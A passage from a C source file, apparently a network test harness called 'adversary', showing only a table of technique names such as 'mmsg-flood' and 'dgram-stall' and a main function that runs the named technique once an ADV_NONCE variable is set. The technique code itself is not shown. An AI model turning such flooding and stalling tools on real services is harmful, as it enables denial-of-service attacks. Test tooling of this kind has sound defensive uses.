    {"mmsg-flood", t_mmsg_flood},
    {"blocked-streams", t_blocked_streams},
    {"dgram-stall", t_dgram_stall},
    {"load", t_load},
};

int main(int argc, char** argv) {
  token = getenv("ADV_NONCE");
  if (argc < 2 || token == NULL) {
    fprintf(stderr, "usage: ADV_NONCE=... adversary TECHNIQUE\n");
    return 2;
  }
  for (unsigned i = 0; i < sizeof(techniques) / sizeof(techniques[0]); ++i) {
    if (strcmp(argv[1], techniques[i].name) == 0) {
      techniques[i].run();
      return 0;
    }
  }
  fprintf(stderr, "unknown technique %s\n", argv[1]);
  return 2;
}
